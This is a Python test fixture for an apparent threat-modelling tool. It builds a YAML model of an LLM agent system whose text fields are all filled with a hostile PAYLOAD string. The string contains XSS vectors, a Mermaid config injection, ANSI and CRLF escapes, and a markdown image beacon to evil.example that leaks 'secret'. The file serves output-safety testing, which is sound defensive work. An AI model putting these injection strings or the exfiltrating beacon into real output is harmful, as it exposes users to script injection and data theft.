"""A model whose every free-text field carries hostile content, for output-safety tests."""

from __future__ import annotations

from tmcode.model.export import model_to_yaml
from tmcode.model.load import load_model_text

PAYLOAD = (
    "<script>document.title='pwned'</script>"
    "<img src=x onerror=\"document.title='pwned'\">"
    '[click me](javascript:alert(1)) <a href="javascript:alert(2)">a</a> '
    "![beacon](https://evil.example/b.png?d=secret) data:text/html;base64,PHNjcmlwdD4= "
    '@everyone | pipe ` tick "quote" \'apos\' \\l \\n dot-break \\" esc '
    "\"]; click n0 call alert(); %%{init: {'securityLevel':'loose'}}%% "
    "\x1b[31mANSI\x1b]0;title\x07 end\r\nnext line"
)
MARKERS = ["document.title='pwned'", "javascript:alert"]


def payload_model_text() -> str:
    """Return the YAML of the payload model (it validates; only its text is hostile)."""
    text = """
tmcode: 1
system:
  name: X
  description: X
  owner: X
  lifecycle: production
boundaries:
  internet: {trust: untrusted, name: X, description: X, kind: X}
  corp: {trust: internal, name: X}
data:
  pii: {classification: confidential, tags: [pii], name: X, description: X}
components:
  web: {kind: external_content, boundary: internet, name: X, description: X, content: web}
  user: {kind: user, boundary: internet, name: X, owner: X, audience: public}
  chat: {kind: ui, boundary: corp, name: X, renders: [html, images]}
  llm: {kind: llm, boundary: corp, name: X, provider: X, model: X, version: X, tags: [X], code: X}
  kb: {kind: vector_store, boundary: corp, name: X, stores: [pii]}
  mcp: {kind: mcp_server, boundary: corp, name: X, tools: [X], source: community, transport: http}
  agent:
    kind: agent
    boundary: corp
    name: X
    model: llm
    tools:
      mcp: {scopes: [read, send], description: X, controls: [{id: human_approval, status: planned, evidence: X}]}
      kb: {scopes: [read]}
flows:
  - {from: user, to: chat, kind: prompt, protocol: X, description: X}
  - {from: chat, to: agent, kind: prompt}
  - {from: agent, to: chat, kind: output}
  - {from: web, to: kb, kind: ingest, data: [pii]}
decisions:
  - {threat: SC-007, target: system, status: accepted, reason: X, owner: X, ticket: X, expires: 2030-01-01}
  - {threat: PI-001, target: llm, status: false_positive, reason: X}
"""
    import json

    return text.replace(": X", ": " + json.dumps(PAYLOAD)).replace(
        "[X]", "[" + json.dumps(PAYLOAD) + "]"
    )


def check_payload_model_loads() -> None:
    """Fail loudly if the payload model stops being a valid model."""
    loaded = load_model_text(payload_model_text(), "payload.yaml")
    assert loaded.model.system.name == PAYLOAD
    assert model_to_yaml(loaded.model)
